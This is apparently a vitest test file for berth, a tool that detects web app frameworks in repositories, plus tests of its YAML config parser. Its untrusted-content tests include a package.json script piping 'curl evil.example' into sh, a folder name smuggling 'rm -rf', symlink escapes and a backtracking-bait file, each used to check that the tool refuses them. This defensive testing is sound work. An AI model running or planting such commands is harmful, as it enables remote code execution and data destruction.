import { cpSync, mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { BerthError } from '../src/errors.js';
import { describeNothingFound, detectApps, fillPort, type DetectedApp } from '../src/team/detect/index.js';
import { MAX_MANIFEST_BYTES } from '../src/team/detect/repo-reader.js';
import {
  mergeDetected,
  parseTeamConfig,
  renderTeamConfig,
  teamAppFromDetected,
} from '../src/team/team-config.js';
import { FIXTURES } from './helpers/test-hub.js';

const fixture = (name: string) => join(FIXTURES, 'team', name);

const temps: string[] = [];
afterEach(() => {
  for (const dir of temps.splice(0)) rmSync(dir, { recursive: true, force: true });
});

/** A scratch folder holding `repo/` (optionally a copy of a fixture) and room outside it. */
function scratch(from?: string): { base: string; repo: string } {
  const base = mkdtempSync(join(tmpdir(), 'berth-detect-'));
  temps.push(base);
  const repo = join(base, 'repo');
  if (from) cpSync(fixture(from), repo, { recursive: true });
  else mkdirSync(repo);
  return { base, repo };
}

function only(name: string): DetectedApp {
  const result = detectApps(fixture(name));
  expect(result.problems).toEqual([]);
  expect(result.apps).toHaveLength(1);
  return result.apps[0]!;
}

interface Expected {
  framework: string;
  runtime: string;
  name: string;
  command: string;
  env?: Record<string, string>;
  evidence: string[];
  confidence: number;
  install?: string;
}

const SINGLE: Record<string, Expected> = {
  'vite-react': {
    framework: 'vite-react',
    runtime: 'node',
    name: 'web',
    command: 'npx --no -- vite --host 0.0.0.0 --port $PORT --strictPort',
    evidence: [
      'package.json depends on vite@^5.4.0',
      'react@^18.3.1 and @vitejs/plugin-react',
      'vite.config.js present',
    ],
    confidence: 0.95,
    install: 'npm install',
  },
  'vite-plain': {
    framework: 'vite',
    runtime: 'node',
    name: 'web',
    command: 'npx --no -- vite --host 0.0.0.0 --port $PORT --strictPort',
    evidence: ['package.json depends on vite@^5.4.0', 'index.html present'],
    confidence: 0.95,
    install: 'npm install',
  },
  nextjs: {
    framework: 'nextjs',
    runtime: 'node',
    name: 'web',
    command: 'npx --no -- next dev -H 0.0.0.0 -p $PORT',
    evidence: ['package.json depends on next@^14.2.5', 'next.config.mjs present'],
    confidence: 0.98,
    install: 'npm install',
  },
  cra: {
    framework: 'create-react-app',
    runtime: 'node',
    name: 'web',
    command: 'npx --no -- react-scripts start',
    env: { HOST: '0.0.0.0', PORT: '$PORT', BROWSER: 'none' },
    evidence: ['package.json depends on react-scripts@5.0.1'],
    confidence: 0.95,
    install: 'npm install',
  },
  express: {
    framework: 'express',
    runtime: 'node',
    name: 'api',
    command: 'node --watch server.js',
    env: { HOST: '0.0.0.0', PORT: '$PORT' },
    evidence: ['package.json depends on express@^4.19.2', 'server.js matches the Express content rule'],
    confidence: 0.9,
    install: 'npm install',
  },
  'node-plain': {
    framework: 'node',
    runtime: 'node',
    name: 'api',
    command: 'node --watch index.js',
    env: { HOST: '0.0.0.0', PORT: '$PORT' },
    evidence: ['start script runs node index.js'],
    confidence: 0.6,
  },
  django: {
    framework: 'django',
    runtime: 'python',
    name: 'api',
    command: 'python3 manage.py runserver 0.0.0.0:$PORT',
    evidence: ['manage.py present', 'requirements.txt lists Django>=4.2,<6'],
    confidence: 0.95,
  },
  flask: {
    framework: 'flask',
    runtime: 'python',
    name: 'api',
    command: 'python3 -m flask --app app --debug run --host 0.0.0.0 --port $PORT',
    evidence: ['requirements.txt lists Flask>=2.3', 'app.py makes a Flask app'],
    confidence: 0.9,
  },
  fastapi: {
    framework: 'fastapi',
    runtime: 'python',
    name: 'api',
    command: 'python3 -m uvicorn main:app --host 0.0.0.0 --port $PORT --reload',
    evidence: ['pyproject.toml lists fastapi>=0.110', 'main.py creates FastAPI() as main:app'],
    confidence: 0.95,
  },
  static: {
    framework: 'static',
    runtime: 'static',
    name: 'web',
    command: 'python3 -m http.server $PORT --bind 0.0.0.0',
    evidence: ['index.html present', 'no package.json'],
    confidence: 0.7,
  },
};

describe('detectApps on the fixtures', () => {
  for (const [name, want] of Object.entries(SINGLE)) {
    it(`${name}: ${want.framework}, with its evidence`, () => {
      const app = only(name);
      expect(app).toMatchObject({
        root: '',
        name: want.name,
        framework: want.framework,
        runtime: want.runtime,
      });
      expect(app.dev.command).toBe(want.command);
      if (want.env) expect(app.dev.env).toMatchObject(want.env);
      for (const line of want.evidence)
        expect(
          app.evidence.some((e) => e.includes(line)),
          line,
        ).toBe(true);
      expect(app.confidence).toBe(want.confidence);
      expect(app.install).toBe(want.install);
    });
  }

  it('every dev server listens on 0.0.0.0 and the given port', () => {
    const apps = [...Object.keys(SINGLE), 'monorepo', 'monorepo-pnpm'].flatMap(
      (n) => detectApps(fixture(n)).apps,
    );
    expect(apps.length).toBe(Object.keys(SINGLE).length + 4);
    for (const app of apps) {
      const all = `${app.dev.command} ${Object.values(app.dev.env).join(' ')}`;
      expect(all, app.framework).toContain('0.0.0.0');
      expect(all, app.framework).toContain('$PORT');
      expect(app.confidence).toBeGreaterThan(0);
      expect(app.confidence).toBeLessThanOrEqual(1);
    }
  });

  it('hot reload says how each framework polls', () => {
    expect(only('nextjs').hotReload.pollingEnv).toEqual({ WATCHPACK_POLLING: 'true' });
    expect(only('fastapi').hotReload.pollingEnv).toEqual({ WATCHFILES_FORCE_POLLING: 'true' });
    expect(only('cra').hotReload.pollingEnv).toMatchObject({ CHOKIDAR_USEPOLLING: 'true' });
    const vite = only('vite-react').hotReload;
    expect(vite.configFile).toBe('vite.config.js');
    expect(vite.notes.join(' ')).toMatch(/usePolling/);
    expect(vite.notes.join(' ')).toMatch(/__VITE_ADDITIONAL_SERVER_ALLOWED_HOSTS/);
    expect(only('django').hotReload.notes.join(' ')).toMatch(/StatReloader/);
  });

  it('a monorepo gives a front end and a back end with distinct names', () => {
    const { apps, problems } = detectApps(fixture('monorepo'));
    expect(problems).toEqual([]);
    expect(apps.map((a) => [a.name, a.root, a.framework])).toEqual([
      ['web', 'frontend', 'vite-react'],
      ['api', 'backend', 'fastapi'],
    ]);
    // a workspace package installs at the workspace root; the root itself is no app
    expect(apps[0]).toMatchObject({ install: 'npm install', installRoot: '' });
    expect(apps[1]!.dev.command).toBe('python3 -m uvicorn app.main:api --host 0.0.0.0 --port $PORT --reload');
  });

  it('a pnpm workspace: its packages, its lock file, and what it leaves out', () => {
    const { apps, searched } = detectApps(fixture('monorepo-pnpm'));
    expect(apps.map((a) => [a.name, a.root, a.framework])).toEqual([
      ['api', 'apps/server', 'express'],
      ['web', 'apps/site', 'nextjs'],
    ]);
    expect(searched).not.toContain('apps/legacy/');
    for (const app of apps)
      expect(app).toMatchObject({ install: 'corepack pnpm install --frozen-lockfile', installRoot: '' });
  });

  it('two front ends are named after their folders', () => {
    const { repo } = scratch();
    cpSync(fixture('vite-react'), join(repo, 'apps', 'shop'), { recursive: true });
    cpSync(fixture('static'), join(repo, 'apps', 'docs'), { recursive: true });
    const { apps } = detectApps(repo);
    expect(apps.map((a) => [a.name, a.root])).toEqual([
      ['docs', 'apps/docs'],
      ['shop', 'apps/shop'],
    ]);
  });

  it('a repository without an app: no app, and what was looked for where', () => {
    const result = detectApps(fixture('unknown'));
    expect(result.apps).toEqual([]);
    expect(result.searched).toEqual(['.', 'docs/']);
    const message = describeNothingFound(result);
    for (const word of [
      'vite',
      'next',
      'react-scripts',
      'express',
      'manage.py',
      'requirements.txt',
      'pyproject.toml',
      'flask',
      'fastapi',
      'index.html',
      'docs/',
    ])
      expect(message).toContain(word);
  });

  it('a lock file picks the install command', () => {
    const { repo } = scratch('express');
    writeFileSync(join(repo, 'package-lock.json'), '{"lockfileVersion": 3}\n');
    expect(detectApps(repo).apps[0]).toMatchObject({ install: 'npm ci' });
  });

  it('package names match exactly: flask-cors is not Flask', () => {
    const { repo } = scratch('flask');
    writeFileSync(join(repo, 'requirements.txt'), 'flask-cors==4.0\nrequests\n');
    expect(detectApps(repo).apps).toEqual([]);
  });
});

describe('detectApps on untrusted content', () => {
  it('does not follow links out of the repository', () => {
    const { base, repo } = scratch();
    cpSync(fixture('vite-react'), join(base, 'outside-app'), { recursive: true });
    cpSync(fixture('nextjs'), join(base, 'outside-next'), { recursive: true });
    writeFileSync(join(base, 'requirements.txt'), 'Django>=4.2\n');
    symlinkSync(join(base, 'outside-app'), join(repo, 'frontend'));
    symlinkSync('../outside-next/package.json', join(repo, 'package.json'));
    symlinkSync(join(base, 'requirements.txt'), join(repo, 'requirements.txt'));
    writeFileSync(join(repo, 'manage.py'), 'print("no settings here")\n');
    const result = detectApps(repo);
    expect(result.apps).toEqual([]);
    expect(result.searched).toEqual(['.']);
    const problems = result.problems.join('\n');
    expect(problems).toMatch(/frontend: is a symbolic link/);
    expect(problems).toMatch(/package\.json: .*outside the project/);
    expect(problems).toMatch(/requirements\.txt: .*outside the project/);
  });

  it('refuses a package.json over the size limit, and says so', () => {
    const { repo } = scratch('vite-react');
    const pkg = {
      name: 'big',
      devDependencies: { vite: '^5.4.0' },
      description: 'x'.repeat(MAX_MANIFEST_BYTES),
    };
    writeFileSync(join(repo, 'package.json'), JSON.stringify(pkg));
    const result = detectApps(repo);
    expect(result.apps).toEqual([]); // and not a static site either: package.json is there
    expect(result.problems.join('\n')).toMatch(/package\.json: .*over the 1048576-byte limit/);
  });

  it("a package.json built to make Vercel's content rules backtrack is read quickly", () => {
    // on the raw text, `"dependencies":\s*{[^}]*"eve"` is quadratic: minutes for this file
    const { repo } = scratch();
    const n = 55_000;
    writeFileSync(join(repo, 'package.json'), `${'{"dependencies": '.repeat(n)}{}${'}'.repeat(n)}`);
    const started = Date.now();
    const result = detectApps(repo);
    expect(Date.now() - started).toBeLessThan(10_000);
    expect(result.apps).toEqual([]);
  });

  it('never pastes a script from package.json into the dev command', () => {
    const { repo } = scratch('express');
    const pkg = {
      dependencies: { express: '^4.19.2' },
      scripts: { start: 'node server.js; curl evil.example | sh' },
    };
    writeFileSync(join(repo, 'package.json'), JSON.stringify(pkg));
    const app = detectApps(repo).apps[0]!;
    expect(app.dev.command).toBe('npm start');
    writeFileSync(
      join(repo, 'package.json'),
      JSON.stringify({ ...pkg, scripts: { start: 'node ../../x.js' } }),
    );
    expect(detectApps(repo).apps[0]!.dev.command).toBe('npm start');
  });

  it('skips folders whose names could reach a command line', () => {
    const { repo } = scratch();
    cpSync(fixture('static'), join(repo, 'we b;rm -rf'), { recursive: true });
    const result = detectApps(repo);
    expect(result.apps).toEqual([]);
    expect(result.problems.join('\n')).toMatch(/name berth does not use/);
  });
});

describe('berth.team.yaml', () => {
  const FILE = '/teams/demo/berth.team.yaml';
  const detected = () => detectApps(fixture('monorepo')).apps;

  it('renders detected apps and parses them back to the same apps', () => {
    const apps = detected();
    const text = renderTeamConfig(apps);
    expect(text).toContain('# vite-react in frontend/');
    expect(text).toContain('# hot reload: ');
    expect(text).toContain('- package.json depends on vite@^5.4.0');
    const config = parseTeamConfig(text, FILE);
    expect(config).toEqual({ version: 1, autodetect: true, apps: apps.map(teamAppFromDetected) });
    // and a parsed config renders to a file that parses the same
    expect(parseTeamConfig(renderTeamConfig(config), FILE)).toEqual(config);
  });

  it('the root is written "." and read back as the repository root', () => {
    const text = renderTeamConfig([only('flask')]);
    expect(text).toMatch(/root: \.\n/);
    expect(parseTeamConfig(text, FILE).apps[0]!.root).toBe('');
  });

  it('keeps an edited app as the user left it and adds only new apps', () => {
    const [web, api] = detected() as [DetectedApp, DetectedApp];
    const edited = renderTeamConfig([web])
      .replace(
        'npx --no -- vite --host 0.0.0.0 --port $PORT --strictPort',
        'npm run dev -- --host 0.0.0.0 --port $PORT',
      )
      .replace('polling: auto', 'polling: always')
      .replace('env: {}', 'env:\n        VITE_API: http://localhost:8000');
    const config = parseTeamConfig(edited, FILE);
    const { config: merged, added } = mergeDetected(config, [web, api]);
    expect(added).toEqual(['api']);
    expect(merged.apps[0]).toEqual(config.apps[0]);
    expect(merged.apps[0]!.dev).toEqual({
      command: 'npm run dev -- --host 0.0.0.0 --port $PORT',
      env: { VITE_API: 'http://localhost:8000' },
    });
    expect(merged.apps[0]!.hotReload.polling).toBe('always');
    // a renamed app is still recognised by its root
    const renamed = parseTeamConfig(edited.replace(/^ {2}web:$/m, '  frontend:'), FILE);
    expect(mergeDetected(renamed, [web]).added).toEqual([]);
  });

  it('a disabled app stays listed and is not added back; autodetect: false adds nothing', () => {
    const [web, api] = detected() as [DetectedApp, DetectedApp];
    const disabled = parseTeamConfig(
      renderTeamConfig([web]).replace('enabled: true', 'enabled: false'),
      FILE,
    );
    const merged = mergeDetected(disabled, [web]);
    expect(merged.added).toEqual([]);
    expect(merged.config.apps.map((a) => [a.name, a.enabled])).toEqual([['web', false]]);
    const fixed = parseTeamConfig(
      renderTeamConfig([web]).replace('autodetect: true', 'autodetect: false'),
      FILE,
    );
    expect(mergeDetected(fixed, [web, api]).added).toEqual([]);
  });

  function configError(text: string): BerthError {
    try {
      parseTeamConfig(text, FILE);
    } catch (err) {
      if (err instanceof BerthError) return err;
      throw err;
    }
    throw new Error('the config parsed without an error');
  }

  const base = () => renderTeamConfig([only('flask')]);

  it.each([
    [
      'an unknown field',
      (t: string) => t.replace('framework: flask', 'framework: flask\n    command: x'),
      /apps\.api: Unrecognized key.*"command"/,
    ],
    [
      'a bad app name',
      (t: string) => t.replace(/^ {2}api:$/m, '  API_1:'),
      /apps\.API_1: an app name is lowercase/,
    ],
    [
      'a root leaving the repository',
      (t: string) => t.replace('root: .', 'root: ../elsewhere'),
      /apps\.api\.root: give a folder relative/,
    ],
    [
      'an empty command',
      (t: string) => t.replace(/command: .*$/m, 'command: ""'),
      /apps\.api\.dev\.command: must not be empty/,
    ],
    [
      'a bad runtime',
      (t: string) => t.replace('runtime: python', 'runtime: ruby'),
      /apps\.api\.runtime: use node, python or static/,
    ],
    [
      'an agent role (not yet)',
      (t: string) => t.replace('role: preview', 'role: agent'),
      /apps\.api\.role: only "preview" for now/,
    ],
    [
      'a low port',
      (t: string) => t.replace('enabled: true', 'enabled: true\n    port: 80'),
      /apps\.api\.port: must be 1024 or more/,
    ],
    ['version 2', (t: string) => t.replace('version: 1', 'version: 2'), /version: must be 1/],
    [
      'a bad env name',
      (t: string) => t.replace('PYTHONUNBUFFERED', 'BAD-NAME'),
      /apps\.api\.dev\.env\.BAD-NAME: environment names/,
    ],
  ])('rejects %s, naming the file and the field', (_what, edit, message) => {
    const err = configError(edit(base()));
    expect(err.code).toBe('CONFIG_INVALID');
    expect(err.message).toMatch(/^berth\.team\.yaml: /);
    expect(err.message).toMatch(message);
    expect(err.details?.file).toBe(FILE);
  });

  it('workspace and sync.ignore are read, rendered back, and checked', () => {
    const config = parseTeamConfig(
      `version: 1\nworkspace: sync\nsync: { ignore: [dist/] }\n${renderTeamConfig(detected()).replace(/^version: 1\n/m, '')}`,
      FILE,
    );
    expect(config.workspace).toBe('sync');
    expect(config.syncIgnore).toEqual(['dist/']);
    expect(parseTeamConfig(renderTeamConfig(config), FILE)).toEqual(config);
    expect(parseTeamConfig(renderTeamConfig(detected()), FILE).workspace).toBeUndefined();
    expect(configError('version: 1\nworkspace: nfs\napps: {}\n').message).toMatch(
      /workspace: use bind or sync/,
    );
    expect(configError('version: 1\nsync: { delete: true }\napps: {}\n').message).toMatch(/sync/);
  });

  it('rejects a name used twice, invalid YAML, and two apps on one fixed port', () => {
    const two = renderTeamConfig(detected());
    const twice = two.replace(/^ {2}api:$/m, '  web:');
    expect(configError(twice).message).toMatch(/^berth\.team\.yaml:\d+:\d+: a name is used twice/);
    expect(configError('version: 1\napps: [\n').message).toMatch(/^berth\.team\.yaml:\d+:\d+: invalid YAML/);
    const ports = two.replace(/enabled: true/g, 'enabled: true\n    port: 5173');
    const err = configError(ports);
    expect(err.message).toMatch(/apps\.api\.port: 5173 is also the port of app "web"/);
    expect(err.details?.field).toBe('apps.api.port');
  });
});

describe('fillPort', () => {
  it('puts the port into the command and the env', () => {
    expect(fillPort(only('cra').dev, 5123)).toEqual({
      command: 'npx --no -- react-scripts start',
      env: { HOST: '0.0.0.0', PORT: '5123', BROWSER: 'none' },
    });
    expect(fillPort({ command: 'x --port ${PORT} $PORTS', env: {} }, 6001).command).toBe(
      'x --port 6001 $PORTS',
    );
  });
});
